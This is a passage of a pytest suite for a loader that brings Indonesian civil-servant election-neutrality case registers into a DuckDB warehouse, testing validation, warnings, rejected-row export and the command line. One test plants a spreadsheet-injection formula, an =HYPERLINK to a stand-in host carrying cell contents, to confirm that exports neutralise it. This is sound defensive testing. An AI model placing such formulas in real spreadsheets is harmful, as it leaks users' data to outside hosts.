"""The loader end to end: fixture registers through the real reader, validator and a real DuckDB warehouse."""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys

import duckdb
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

import settings
from etl.__main__ import main
from etl.readers import RegisterUnusable, cell_text, find_header, read_register, sniff_delimiter
from etl.validate import Defaults, validate_row, warnings_of
from warehouse import db

D = dt.date
CASES_SQL = """select case_id, subject_no, election, source_agency, incident_date, report_date, region_code,
                      province_code, agency_level, subject_name, position_class, violation_type, violation_class,
                      status, severity, severity_inferred, source_row
               from cases order by election desc, source_row, subject_no"""
REJECTED_SQL = 'select row_number, "column", value, reason from rejected_rows order by rowid'
LAST_LOAD_SQL = "select load_id from load_batches order by loaded_at desc limit 1"
BATCH_SQL = """select source_file, election, rows_read, rows_loaded, rows_rejected, rows_duplicate
               from load_batches order by loaded_at"""

BAWASLU_CASES = [  # every row loads: fields that can't be read stay empty and are warned about
    ("001/Reg/Bawaslu-Jateng/IX/2024", 1, "pilkada2024", "bawaslu", D(2024, 9, 5), D(2024, 9, 7), "33.25", "33",
     "kabupaten", "Budi Santoso", "jpt", "media_sosial", "kode_etik", "terbukti", None, False, 6),
    ("001/Reg/Bawaslu-Jateng/IX/2024", 2, "pilkada2024", "bawaslu", D(2024, 9, 5), D(2024, 9, 7), "33.25", "33",
     "kabupaten", "Siti Aminah", "pelaksana", "media_sosial", "kode_etik", "terbukti", None, False, 7),
    ("002/Reg/Bawaslu-Jateng/IX/2024", 1, "pilkada2024", "bawaslu", D(2024, 9, 25), D(2024, 9, 28), "33.03", "33",
     "kabupaten", "Agus Wibowo", "fungsional", "kampanye", "disiplin", "disanksi", "sedang", False, 9),
    # 'Tegal' alone is two places; the agency 'Pemkab Tegal' says which (never a guess)
    ("003/Reg/Bawaslu-Jateng/X/2024", 1, "pilkada2024", "bawaslu", D(2024, 10, 2), D(2024, 10, 3), "33.28", "33",
     "kabupaten", "Dewi Lestari", "kepala_wilayah", "foto_simbol", "disiplin", "diproses", "berat", True, 10),
    # a month-first date can't be read: the case loads without it (no date: no class to infer)
    ("004/Reg/Bawaslu-Jateng/X/2024", 1, "pilkada2024", "bawaslu", None, None, "33.76", "33",
     "kota", "Eko Prasetyo", "kepala_wilayah", "kampanye", None, "diproses", None, False, 11),
    # dates outside the sheet's election are dropped; 'Diteruskan ke KASN' is Bawaslu's finding
    ("005/Reg/Bawaslu-Jateng/XII/2023", 1, "pilkada2024", "bawaslu", None, None, "33.29", "33",
     "kabupaten", "Joko Susilo", "jpt", "parpol", "disiplin", "terbukti", "berat", True, 12),
    ("PEM-01", 1, "pemilu2024", "bawaslu", D(2024, 1, 15), D(2024, 1, 16), "74.07", "74",
     "kabupaten", "La Ode Karim", "fungsional", "media_sosial", "disiplin", "disanksi", "sedang", False, 2),
    ("PEM-02", 1, "pemilu2024", "bawaslu", D(2024, 1, 22), None, "33.72", "33",
     "kota", "Wa Ode Sari", "kepala_wilayah", "kampanye", "disiplin", "tidak_terbukti", "berat", True, 3),
]
BAWASLU_WARNINGS = [  # row_number, column as written in the register, value, start of the reason
    (11, "Tanggal Kejadian", "12/13/2024", "Lembar 'Pilkada 2024', baris 11, kolom 'Tanggal Kejadian': "
                                           "'12/13/2024' bukan tanggal yang ada"),
    (12, "Tanggal Kejadian", "2023-12-01", "Lembar 'Pilkada 2024', baris 12, kolom 'Tanggal Kejadian': "
                                           "'2023-12-01' (1 Desember 2023) di luar masa Pilkada Serentak 2024 "
                                           "(1 Januari 2024 s.d. 31 Desember 2025)"),
    (12, "Tanggal Laporan", "2023-12-05", "Lembar 'Pilkada 2024', baris 12, kolom 'Tanggal Laporan': "
                                          "'2023-12-05' (5 Desember 2023) di luar masa Pilkada Serentak 2024"),
]
KASN_CASES = [  # (case_id, subject_no, region_code, subject_name, violation_type, status, source_row); H- = hash
    ("KASN-001", 1, "33.28", "Hasan Basri", "deklarasi", "terbukti", 3),
    ("KASN-001", 2, "33.28", "Nurul Hidayah", "deklarasi", "terbukti", 3),
    ("KASN-002", 1, "32.79", "Andi Rahman", "media_sosial", "diproses", 4),
    ("H-", 1, "33.25", "Tono", "alat_peraga", "dilaporkan", 5),
    ("KASN-003", 1, "33.25", "Rudi", "kampanye", "dilaporkan", 7),  # no date, but the election is named
    ("KASN-004", 1, None, "Bambang", "keputusan", "terbukti", 8),
    ("KASN-006", 1, "33.25", "Doni", "kampanye", "dilaporkan", 10),  # three names, two NIPs: three people
    ("KASN-006", 2, "33.25", "Eka", "kampanye", "dilaporkan", 10),
    ("KASN-006", 3, "33.25", "Fajar", "kampanye", "dilaporkan", 10),
]
KASN_REJECTED = [
    (9, "Kab/Kota", "", "Baris 9, kolom 'Kab/Kota': Kabupaten/Kota dan Provinsi kosong dan nama instansi tidak "
                        "menyebut wilayah"),
]
KASN_WARNINGS = [
    (7, "Tanggal Kejadian", "", "Baris 7, kolom 'Tanggal Kejadian': Tidak ada tanggal sama sekali"),
    (10, "NIP", "111; 222", "Baris 10, kolom 'NIP': 3 nama tetapi 2 NIP; NIP tidak dapat dipasangkan, 3 orang "
                            "dimuat tanpa NIP"),
]
WARNINGS_SQL = 'select row_number, "column", value, reason from load_warnings order by rowid'


def query(sql: str, params=()) -> list[tuple]:
    with db.connect_read_only() as con:
        return con.execute(sql, list(params)).fetchall()


def generations(folder) -> list[str]:
    return sorted(path.name for path in folder.glob("netra-*.duckdb"))


# --- whole registers -------------------------------------------------------------------------------------------


def test_xlsx_register_loads_exact_rows(warehouse_dir, registers, load_register):
    [result] = load_register(registers["bawaslu.xlsx"], source_agency="bawaslu")
    assert (result.rows_read, result.rows_loaded, result.rows_rejected, result.rows_duplicate) == (8, 8, 0, 0)
    assert (result.rows_warned, result.exit_status) == (2, 0)
    assert query(CASES_SQL) == BAWASLU_CASES
    assert query(REJECTED_SQL) == []
    warned = query(WARNINGS_SQL)
    assert [(row, column, value) for row, column, value, _ in warned] == [r[:3] for r in BAWASLU_WARNINGS]
    for (*_, reason), (*_, start) in zip(warned, BAWASLU_WARNINGS, strict=True):
        assert reason.startswith(start)
    assert query(BATCH_SQL) == [("bawaslu.xlsx", None, 8, 8, 0, 0)]
    assert query("select forwarded_to, regime from cases where case_id like '005/%'") == [("kasn", "pp94_skb2022")]
    assert query("select distinct extra from cases where case_id like '001/%' order by 1") == [
        ('{"No": "1"}',), ('{"No": "2"}',)]  # the unmapped 'No' column is kept with each case


def test_problem_rows_keep_the_whole_row_as_json(warehouse_dir, registers, load_register):
    load_register(registers["bawaslu.xlsx"])
    [(raw,)] = query("select distinct raw from load_warnings where row_number = 11")
    assert json.loads(raw) == {
        "Lembar": "Pilkada 2024", "No": "5", "No. Register": "004/Reg/Bawaslu-Jateng/X/2024",
        "Tanggal Kejadian": "12/13/2024", "Tanggal Laporan": "", "Kabupaten/Kota": "Kota Tegal",
        "Nama Terlapor": "Eko Prasetyo", "NIP": "", "Jabatan": "Lurah", "Instansi": "Pemkot Tegal",
        "Uraian Dugaan Pelanggaran": "Ikut kampanye pasangan calon", "Status": "Dalam proses",
        "Tingkat Hukuman": "",
    }


def test_cp1252_semicolon_register(warehouse_dir, registers, load_register):
    [result] = load_register(registers["kasn.csv"])
    assert (result.rows_read, result.rows_loaded, result.rows_rejected, result.rows_duplicate) == (9, 9, 1, 2)
    assert (result.rows_warned, result.exit_status) == (2, 3)
    rows = query("select case_id, subject_no, region_code, subject_name, violation_type, status, source_row "
                 "from cases order by source_row, subject_no")
    assert [(r[0][:2] if r[0].startswith("H-") else r[0], *r[1:]) for r in rows] == KASN_CASES
    rejected = query(REJECTED_SQL)
    assert [(row, column, value) for row, column, value, _ in rejected] == [r[:3] for r in KASN_REJECTED]
    assert all(reason.startswith(start) for (*_, reason), (*_, start) in zip(rejected, KASN_REJECTED, strict=True))
    warned = query(WARNINGS_SQL)
    assert [(row, column, value) for row, column, value, _ in warned] == [r[:3] for r in KASN_WARNINGS]
    assert all(reason.startswith(start) for (*_, reason), (*_, start) in zip(warned, KASN_WARNINGS, strict=True))
    # the cp1252 dash arrives as a dash; the central agency has neither region nor province
    assert query("select distinct raw from rejected_rows where row_number = 9")[0][0].count("SMPN 1") == 1
    assert query("select agency_level, province_code, source_kind from cases where case_id = 'KASN-004'") == [
        ("pusat", None, "aduan")]
    assert query("select count(*) from cases where case_id like 'H-%' and length(case_id) = 18") == [(1,)]


def test_reading_cp1252_keeps_its_characters(registers):
    [sheet] = read_register(registers["kasn.csv"]).sheets
    assert sheet.frame.loc[3, "Jabatan"] == "Kepala Dinas Pendidikan – Kab. Tegal"
    assert sheet.frame.loc[10, "Nama Terlapor"] == "Doni\nEka\nFajar"
    assert list(sheet.frame.index) == [3, 4, 5, 6, 7, 8, 9, 10, 11]  # the title line counts as row 1


def test_a_case_id_made_from_content_does_not_depend_on_the_row(warehouse_dir, registers, load_register, tmp_path):
    load_register(registers["kasn.csv"])
    [(first,)] = query("select case_id from cases where case_id like 'H-%'")
    moved = tmp_path / "dipindah.csv"  # same row, other columns around it, another row number
    moved.write_text("Pemilihan,Sumber,Uraian,Kab/Kota,Provinsi,Tanggal Kejadian,Tanggal Pengaduan,Nama Terlapor,"
                     "Jabatan,Instansi\n,,,,,,,,,\nPilkada 2024,Temuan,Memasang baliho calon di depan kantor,"
                     "Kab. Batang,Jawa Tengah,05/10/2024,07/10/2024,Tono,Staf,Pemkab Batang\n", encoding="utf-8")
    [result] = load_register(moved, source_agency="kasn")  # kasn.csv's title line names KASN; this file doesn't
    assert (result.rows_loaded, result.rows_duplicate) == (0, 1)
    assert query("select case_id from cases where case_id like 'H-%'") == [(first,)]


def test_same_named_regions_need_a_province():
    row = {"subject_name": "Budi", "incident_date": "18/09/2024", "election": "Pilkada 2024"}
    assert validate_row({**row, "region": "Banjar", "province": "Jawa Barat"})[0]["region_code"] == "32.79"
    assert validate_row({**row, "region": "Banjar", "province": "Kalsel"})[0]["region_code"] == "63.03"
    [(column, value, reason)] = validate_row({**row, "region": "Tegal"})
    assert (column, value) == ("region", "Tegal")
    assert "Kabupaten Tegal (33.28)" in reason and "Kota Tegal (33.76)" in reason
    # the agency's name settles it; a province alone places the case at province level, with a warning
    assert validate_row({**row, "region": "Tegal", "agency_name": "Pemkot Tegal"})[0]["region_code"] == "33.76"
    [record] = validate_row({**row, "region": "Tegal", "province": "Jawa Tengah"})
    assert (record["region_code"], record["province_code"]) == (None, "33")
    assert warnings_of({**row, "region": "Tegal", "province": "Jawa Tengah"}) == [
        ("region", "'Tegal' bisa Kabupaten Tegal (33.28) atau Kota Tegal (33.76); tulis lengkap dengan Kabupaten "
                   "atau Kota. Kasus dimuat di tingkat provinsi.")]


WHO = {"subject_name": "Budi"}  # a row names someone (or something) to be counted at all


@pytest.mark.parametrize(("row", "defaults", "expected"), [
    # election from the column, from --election, from the one window the dates fit
    ({**WHO, "incident_date": "10/10/2020", "region": "Batang"}, Defaults(), {"election": "pilkada2020"}),
    ({**WHO, "incident_date": "10/10/2024", "region": "Batang"}, Defaults("pemilu2024"), {"election": "pemilu2024"}),
    ({**WHO, "incident_date": "10/10/2024", "region": "Batang", "election": "PILKADA SERENTAK 2024"},
     Defaults("pemilu2024"), {"election": "pilkada2024"}),
    # a report date alone is enough; a province alone is enough (provincial agency)
    ({**WHO, "report_date": "1 Desember 2020", "province": "NTB"}, Defaults(),
     {"region_code": None, "province_code": "52", "agency_level": "provinsi"}),
    # severity as written, implied by the sanction, or inferred from the SKB 2022 matrix
    ({**WHO, "incident_date": "01/10/2024", "region": "Batang", "election": "pilkada2024", "severity": "Ringan"},
     Defaults(), {"severity": "ringan", "severity_inferred": False}),
    ({**WHO, "incident_date": "01/10/2024", "region": "Batang", "election": "pilkada2024",
      "sanction": "Pemotongan tunjangan kinerja 25% selama 6 bulan"}, Defaults(),
     {"severity": "sedang", "severity_inferred": False}),
    ({**WHO, "incident_date": "01/10/2024", "region": "Batang", "election": "pilkada2024", "violation_form": "D6"},
     Defaults(), {"violation_type": "media_sosial", "violation_class": "disiplin", "severity": "berat",
                  "severity_inferred": True}),
    # NIPs lose their spacing; the source agency falls back to --source-agency
    ({**WHO, "incident_date": "01/10/2024", "region": "Batang", "election": "pilkada2024",
      "subject_nip": "19800101 200501 1 001"}, Defaults(source_agency="kasn"),
     {"subject_nip": "198001012005011001", "source_agency": "kasn"}),
])
def test_validation_rules(row, defaults, expected):
    [record] = validate_row(row, defaults)
    assert {key: record[key] for key in expected} == expected


@pytest.mark.parametrize(("row", "column", "reason"), [  # rows that can't be counted or placed: rejected
    ({**WHO, "incident_date": "10/10/2024", "region": "Batang"}, "election",
     "tanggal 10/10/2024 masuk masa Pemilu 2024 dan Pilkada Serentak 2024; isi kolom Pemilihan atau muat dengan "
     "--election."),
    ({**WHO, "incident_date": "10/10/2018", "region": "Batang"}, "incident_date",
     "'10/10/2018' di luar masa semua pemilihan: Pilkada Serentak 2020 (1 Oktober 2019 s.d. 31 Desember 2021); "
     "Pemilu 2024 (14 Juni 2022 s.d. 31 Desember 2024); Pilkada Serentak 2024 (1 Januari 2024 s.d. 31 Desember "
     "2025); periksa tanggalnya."),
    ({**WHO, "incident_date": "10/10/2024", "region": "Batang", "election": "Pilkades 2024"}, "election",
     "'Pilkades 2024' bukan pemilihan yang dikenal; tulis salah satu: Pilkada Serentak 2020, Pemilu 2024, "
     "Pilkada Serentak 2024."),
    ({**WHO, "region": "Batang"}, "election",
     "Pemilihan tidak diketahui dan tidak ada tanggal yang terbaca; isi kolom Pemilihan atau tanggal, atau muat "
     "dengan --election."),
    ({**WHO, "incident_date": "10/10/2024", "election": "pilkada2024", "agency_name": "Dinas Pendidikan"}, "region",
     "Kabupaten/Kota dan Provinsi kosong dan nama instansi tidak menyebut wilayah; isi salah satunya (boleh kosong "
     "hanya untuk instansi pusat, mis. Instansi 'Kementerian Agama')."),
    ({**WHO, "incident_date": "10/10/2024", "election": "pilkada2024", "agency_name": "Dinas Pendidikan Tegal"},
     "agency_name", "'Tegal' dalam nama instansi bisa Kabupaten Tegal (33.28) atau Kota Tegal (33.76) — isi kolom "
               "Kabupaten/Kota."),
    ({**WHO, "incident_date": "10/10/2024", "election": "pilkada2024", "region": "Kab. Zzzz"}, "region",
     "'Kab. Zzzz' tidak dikenali sebagai kabupaten/kota; tulis nama resmi seperti Kabupaten Batang atau kodenya "
     "seperti 33.25."),
    ({"incident_date": "10/10/2024", "region": "Batang", "election": "pilkada2024", "status": "Baru"}, "case_id",
     "Baris tidak menyebut nomor register, nama, NIP, jabatan, instansi, jenis atau uraian pelanggaran; tidak ada "
     "yang dapat dihitung sebagai kasus."),
])
def test_rows_that_cannot_be_counted_are_rejected(row, column, reason):
    assert [(c, r) for c, _, r in validate_row(row)] == [(column, reason)]


PLACED = {**WHO, "incident_date": "10/10/2024", "region": "Batang", "election": "pilkada2024"}


@pytest.mark.parametrize(("row", "field", "value", "warning"), [  # a field that can't be read: loaded, warned
    ({**PLACED, "violation_class": "Perdata"}, "violation_class", "disiplin",  # then inferred from the SKB matrix
     ("violation_class", "'Perdata' bukan klasifikasi pelanggaran; tulis Kode Etik, Disiplin atau Pidana. Kolom "
                         "ini dikosongkan.")),
    ({**PLACED, "status": "Xyz"}, "status", "dilaporkan",
     ("status", "'Xyz' bukan status kasus yang dikenal; tulis salah satu: dilaporkan, diproses, terbukti, tidak "
                "terbukti, dihentikan, disanksi (atau ungkapan seperti 'Diteruskan ke KASN', 'Bukan pelanggaran', "
                "'Dijatuhi hukuman'). Dimuat sebagai dilaporkan.")),
    ({**PLACED, "report_date": "31/02/2024"}, "report_date", None,
     ("report_date", "'31/02/2024' bukan tanggal yang ada; tulis seperti 18/09/2024 (hari/bulan/tahun). Tanggal "
                     "ini dikosongkan.")),
    ({**PLACED, "incident_date": "", "election": "pilkada2024"}, "incident_date", None,
     ("incident_date", "Tidak ada tanggal sama sekali; kasus dimuat tanpa tanggal (tidak tampil pada linimasa).")),
    ({**PLACED, "severity": "Sangat parah", "description": "Memasang baliho calon"}, "severity", "berat",
     ("severity", "'Sangat parah' bukan tingkat hukuman yang dikenal; tulis Ringan, Sedang atau Berat, atau jenis "
                  "hukumannya (misalnya teguran tertulis, pemotongan tukin, penurunan jabatan). Kolom ini "
                  "dikosongkan.")),  # then inferred from the SKB matrix (D1 after candidates are set)
    ({**PLACED, "election": "Pilkada 2018", "incident_date": "10/10/2020"}, "election", "pilkada2020",
     ("election", "'Pilkada 2018' bukan pemilihan yang dikenal; tulis salah satu: Pilkada Serentak 2020, Pemilu "
                  "2024, Pilkada Serentak 2024. Pemilihan diambil dari petunjuk lain.")),
    ({**PLACED, "election": "Pilkada 2018", "incident_date": "10/10/2024"}, "election", "pilkada2024",  # the kind
     ("election", "'Pilkada 2018' bukan pemilihan yang dikenal; tulis salah satu: Pilkada Serentak 2020, Pemilu "
                  "2024, Pilkada Serentak 2024. Pemilihan diambil dari petunjuk lain.")),
    ({**PLACED, "source_kind": "Media massa"}, "source_kind", None,
     ("source_kind", "'Media massa' bukan sumber kasus yang dikenal; tulis Temuan (termasuk LHP), Laporan atau "
                     "Aduan. Kolom ini dikosongkan.")),
])
def test_fields_that_cannot_be_read_load_empty_with_a_warning(row, field, value, warning):
    [record] = validate_row(row)
    assert (None if pd.isna(record[field]) else record[field]) == value
    assert warnings_of(row) == ([warning] if warning else [])


def test_english_tab_register_with_election_from_the_command_line(
    warehouse_dir, registers, load_register, monkeypatch
):
    [ambiguous] = load_register(registers["inspektorat.tsv"])
    assert (ambiguous.rows_loaded, ambiguous.rows_rejected) == (0, 2)
    assert [column for _, column, _, _ in query(REJECTED_SQL)] == ["Pemilihan", "Pemilihan"]
    monkeypatch.setenv("NETRA_DATA_DIR", str(warehouse_dir.with_name("second")))
    [result] = load_register(registers["inspektorat.tsv"], election="pemilu2024", source_agency="inspektorat")
    assert (result.rows_loaded, result.rows_rejected, result.exit_status) == (2, 0, 0)
    assert query("select case_id, election, source_agency, region_code, position_class, status from cases "
                 "order by case_id") == [
        ("INS-1", "pemilu2024", "inspektorat", "33.74", "administrator", "terbukti"),
        ("INS-2", "pemilu2024", "inspektorat", "34.04", "pelaksana", "diproses"),
    ]


# --- files that can't be used ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "reason"), [
    ("kosong.csv", "kosong.csv: berkas kosong; isi dengan register kasus (CSV atau XLSX)."),
    ("spasi.csv", "spasi.csv: berkas kosong; isi dengan register kasus (CSV atau XLSX)."),
    ("rusak.xlsx", "rusak.xlsx: bukan XLSX yang dapat dibaca (BadZipFile); buka di Excel lalu simpan ulang sebagai "
                   ".xlsx atau CSV."),
    ("gambar.csv", "gambar.csv: bukan CSV atau XLSX (berkas biner); simpan ulang sebagai .xlsx atau CSV."),
    ("lama.xls", "lama.xls: format Excel lama (.xls) atau berkas berkata sandi; simpan ulang tanpa kata sandi "
                 "sebagai .xlsx atau CSV."),
    ("tanpa_kolom.csv", "tanpa_kolom.csv: tidak ada kolom yang dikenali; baris judul kolom harus memuat mis. "
                        "'Tanggal Kejadian', 'Kabupaten/Kota', 'Nama Terlapor'."),
    ("hanya_judul.csv", "hanya_judul.csv: tidak ada baris data di bawah judul kolom."),
    ("tidak_ada.csv", "tidak_ada.csv: berkas tidak dapat dibuka (No such file or directory)."),
])
def test_unusable_file_writes_nothing(warehouse_dir, registers, load_register, name, reason):
    with pytest.raises(RegisterUnusable) as raised:
        read_register(registers["kosong.csv"].with_name(name))
    assert str(raised.value) == reason
    [result] = load_register(registers["kosong.csv"].with_name(name))
    assert (result.error, result.exit_status, result.load_id) == (reason, 2, None)
    assert db.current_path() is None and generations(warehouse_dir) == []


def test_a_register_nothing_can_date_or_place_in_an_election_is_unusable(warehouse_dir, registers, load_register):
    path = registers["tanpa_tanggal.csv"]
    [result] = load_register(path)
    assert (result.error, result.exit_status) == (
        "tanpa_tanggal.csv: tidak ada kolom tanggal dan tidak ada yang menyebut pemilihannya; tambahkan kolom "
        "'Tanggal Kejadian' atau 'Tanggal Laporan', atau muat dengan --election.", 2)
    assert db.current_path() is None
    [named] = load_register(path, election="pilkada2024")  # the election given: each row loads, warned (no date)
    assert (named.rows_loaded, named.rows_warned, named.exit_status) == (1, 1, 0)


def test_an_unusable_file_leaves_the_published_generation(warehouse_dir, registers, load_register):
    load_register(registers["kasn.csv"])
    before = db.current_path()
    [result] = load_register(registers["rusak.xlsx"])
    assert result.exit_status == 2
    assert db.current_path() == before and generations(warehouse_dir) == [before.name]


# --- loading again ---------------------------------------------------------------------------------------------


def test_loading_the_same_file_again_changes_nothing(warehouse_dir, registers, load_register):
    [first] = load_register(registers["kasn.csv"])
    published = db.current_path()
    [again] = load_register(registers["kasn.csv"])
    assert (again.already_loaded, again.rows_loaded, again.load_id, again.exit_status) == (first.load_id, 0, None, 3)
    assert "sudah dimuat" in again.summary()
    assert db.current_path() == published and generations(warehouse_dir) == [published.name]
    assert query("select count(*), (select count(*) from load_batches) from cases") == [(9, 1)]


def test_people_already_loaded_are_duplicates_and_new_people_are_numbered_after(
    warehouse_dir, registers, load_register, tmp_path
):
    load_register(registers["bawaslu.xlsx"], source_agency="bawaslu")
    more = tmp_path / "tambahan.csv"
    more.write_text(
        "No. Register,Tanggal Kejadian,Kabupaten/Kota,Nama Terlapor,NIP,Pemilihan\n"
        "001/Reg/Bawaslu-Jateng/IX/2024,05/09/2024,Kab. Batang,Budi Santoso,198001012005011001,Pilkada 2024\n"
        "001/Reg/Bawaslu-Jateng/IX/2024,05/09/2024,Kab. Batang,Rahmat Hidayat,,Pilkada 2024\n", encoding="utf-8")
    [result] = load_register(more, source_agency="bawaslu")
    assert (result.rows_read, result.rows_loaded, result.rows_duplicate, result.exit_status) == (2, 1, 1, 3)
    assert query("select subject_no, subject_name from cases where case_id = '001/Reg/Bawaslu-Jateng/IX/2024' "
                 "order by subject_no") == [(1, "Budi Santoso"), (2, "Siti Aminah"), (3, "Rahmat Hidayat")]


# --- generations: readers and checks ---------------------------------------------------------------------------


def test_a_reader_of_the_current_generation_is_not_disturbed_by_a_load(warehouse_dir, registers, load_register):
    load_register(registers["kasn.csv"])
    with db.connect_read_only() as reader:
        assert reader.execute("select count(*) from cases").fetchall() == [(9,)]
        load_register(registers["bawaslu.xlsx"])
        assert reader.execute("select count(*) from cases").fetchall() == [(9,)]  # still the old generation
        with db.connect_read_only() as fresh:
            assert fresh.execute("select count(*) from cases").fetchall() == [(17,)]


def test_two_loads_at_once_both_arrive(warehouse_dir, registers):
    env = {**os.environ, "NETRA_DATA_DIR": str(warehouse_dir)}
    loads = [subprocess.Popen([sys.executable, "-m", "etl", "load", str(registers[name])], cwd=settings.ROOT,
                              env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
             for name in ("kasn.csv", "bawaslu.xlsx")]
    assert [load.wait(timeout=120) for load in loads] == [3, 0]
    assert query("select count(*), count(distinct load_id) from cases") == [(17, 2)]


def test_a_failing_warehouse_check_publishes_nothing(warehouse_dir, registers, load_register):
    load_register(registers["kasn.csv"])
    published = db.current_path()
    with duckdb.connect(str(published)) as con:  # a bad row that slipped in some other way
        con.execute("update cases set status = 'hilang' where case_id = 'KASN-002'")
    [result] = load_register(registers["bawaslu.xlsx"])
    assert result.exit_status == 2
    assert result.error.startswith("bawaslu.xlsx: Pemeriksaan data gagal, tidak ada yang diterbitkan: - status di "
                                   "luar kosakata: 1 baris, mis. KASN-002#1")
    assert db.current_path() == published and generations(warehouse_dir) == [published.name]


# --- the command line ------------------------------------------------------------------------------------------


def test_cli_load_exit_statuses(warehouse_dir, registers, capsys):
    assert main(["load", str(registers["inspektorat.tsv"]), "--election", "Pemilu 2024"]) == 0
    assert main(["load", str(registers["kosong.csv"])]) == 2
    assert main(["load", str(registers["kasn.csv"]), str(registers["lama.xls"])]) == 2
    out = capsys.readouterr().out
    assert "GAGAL  kosong.csv: berkas kosong" in out
    assert "DIMUAT kasn.csv" in out and "ditolak: Baris 9, kolom 'Kab/Kota'" in out
    assert "peringatan: Baris 7, kolom 'Tanggal Kejadian': Tidak ada tanggal sama sekali" in out


def test_cli_load_as_a_process(warehouse_dir, registers):
    done = subprocess.run([sys.executable, "-m", "etl", "load", str(registers["kasn.csv"])], cwd=settings.ROOT,
                          capture_output=True, text=True, env={**os.environ, "NETRA_DATA_DIR": str(warehouse_dir)})
    assert done.returncode == 3
    assert "kasn.csv (" in done.stdout and "9 baris register dibaca, 9 kasus dimuat, 1 baris ditolak, 2 ganda" \
        in done.stdout
    assert "100%" in done.stderr  # the progress bar


def test_rejected_rows_go_to_a_file_that_loads_again_once_corrected(warehouse_dir, registers, tmp_path, capsys):
    main(["load", str(registers["kasn.csv"])])
    out = tmp_path / "ditolak.csv"
    assert main(["rejected", "--out", str(out)]) == 0
    [sheet] = read_register(out).sheets
    assert list(sheet.frame["Baris"]) == ["9"]
    assert sheet.labels[0] == "Baris" and sheet.labels[-1] == "Alasan"
    text = out.read_text(encoding="utf-8-sig")
    assert text.splitlines()[:2] == ["Daftar aduan netralitas ASN – KASN",  # the register's title line, kept
                                     f"Berkas asal: kasn.csv (muatan {query(LAST_LOAD_SQL)[0][0]})"]
    out.write_text(text.replace(",,,Cici", ",,Kab. Batang,Cici"), encoding="utf-8-sig")  # the steward's fix
    assert main(["load", str(out)]) == 0
    assert query("select case_id, subject_no, source_agency, region_code, extra from cases where load_id = "
                 "(select load_id from load_batches order by loaded_at desc limit 1)") == [
        ("KASN-005", 1, "kasn", "33.25", '{"No.": "7"}')]  # read like the original; Baris, Alasan not kept


def test_rejected_as_xlsx(warehouse_dir, tmp_path):
    book = Workbook()
    first, second = book.active, book.create_sheet("Lembar 2")
    first.title = "Pilkada 2024"
    for sheet in (first, second):
        sheet.append(["No", "Nama Terlapor", "Tanggal Kejadian", "Kabupaten/Kota", "Status"])
    first.append([1, "Budi", "10/10/2024", "Tegal", "Xyz"])  # rejected (no place) and warned (status)
    first.append([2, "Siti", "10/10/2024", "Batang", "Baru"])
    second.append([1, "Agus", "10/10/2024", "Batang", "Baru"])  # rejected: two elections fit the date
    register = tmp_path / "dua_lembar.xlsx"
    book.save(register)
    main(["load", str(register)])
    out = tmp_path / "ditolak.xlsx"
    assert main(["rejected", "--out", str(out)]) == 0
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert rows[0][0].startswith("Berkas asal: dua_lembar.xlsx (muatan ") and set(rows[1]) == {None}
    assert rows[2][:3] == ("Baris", "Lembar", "No") and rows[2][-1] == "Alasan"
    assert [row[:3] for row in rows[3:]] == [(2, "Pilkada 2024", "1"), (2, "Lembar 2", "1")]
    assert rows[3][-1].count("\n") == 1  # two problems of that row, one per line


def test_cli_status(warehouse_dir, registers, capsys):
    assert main(["status"]) == 2
    main(["load", str(registers["kasn.csv"])])
    capsys.readouterr()
    assert main(["status"]) == 0
    out = capsys.readouterr().out
    assert f"Generasi terbit: {db.current_path().name}" in out
    assert "SINTETIS" not in out
    assert "pilkada2024 Pilkada Serentak 2024        9            9      6   2024-09-09    2024-11-02" in out
    assert "kasn.csv" in out
    size = registers["kasn.csv"].stat().st_size / 1e6
    assert f"Arsip berkas mentah: 1 berkas, {size:.1f} MB di {settings.raw_dir()}" in out


# --- the reader's pieces ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "delimiter"), [
    ("a,b,c\n1,2,3\n", ","),
    ("a;b;c\n1;2,5;3\n", ";"),
    ("a\tb\tc\n1\t2\t3\n", "\t"),
    ("Judul\n\nNo;Nama;Tanggal\n1;\"A, B\";2024\n", ";"),
])
def test_sniff_delimiter(text, delimiter):
    assert sniff_delimiter(text) == delimiter


def test_find_header_below_title_rows_and_over_two_rows():
    rows = [["REKAP"], [], ["No", "Tanggal", "", "Kab/Kota"], ["", "Kejadian", "Laporan", ""], ["1", "x", "y", "z"]]
    assert find_header(rows) == (2, 2, ["No", "Tanggal Kejadian", "Tanggal Laporan", "Kab/Kota"])
    assert find_header([["Provinsi", "Jumlah"], ["Jateng", "3"]]) is None


@pytest.mark.parametrize(("value", "text"), [
    (dt.datetime(2024, 9, 18), "2024-09-18"),
    (dt.datetime(2024, 9, 18, 14, 30), "2024-09-18 14:30:00"),
    (dt.date(2024, 9, 18), "2024-09-18"),
    (45553.0, "45553"),
    (33.25, "33.25"),
    (None, ""),
    ("Batang", "Batang"),
])
def test_cell_text(value, text):
    assert cell_text(value) == text


def test_rejected_rows_never_become_live_formulas_and_load_back_as_sent(warehouse_dir, tmp_path):
    register = tmp_path / "jahat.csv"
    register.write_text('No. Register,Tanggal Kejadian,Kabupaten/Kota,Nama Terlapor,Uraian\n'
                        '"=HYPERLINK(""http://x.example/?""&A1,""klik"")",18/09/2024,Tegal,Budi,"@SUM(A1)"\n',
                        encoding="utf-8")
    main(["load", str(register), "--election", "pilkada2024"])
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"ditolak{suffix}"
        assert main(["rejected", "--out", str(out)]) == 0
        if suffix == ".xlsx":
            sheet = load_workbook(out).active
            cells = [cell for row in sheet.iter_rows(min_row=5) for cell in row]  # below hint lines, header
            assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
            assert [cell.value for cell in cells][1:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"klik")']
        else:
            assert "'=HYPERLINK(" in out.read_text(encoding="utf-8-sig")
        [sheet] = read_register(out).sheets  # the loader reads back what the steward sent
        assert sheet.frame.iloc[0]["No. Register"] == '=HYPERLINK("http://x.example/?"&A1,"klik")'
        assert sheet.frame.iloc[0]["Uraian"] == "@SUM(A1)"


def test_a_corrected_warning_replaces_the_record_it_came_from(warehouse_dir, tmp_path):
    register = tmp_path / "status.csv"
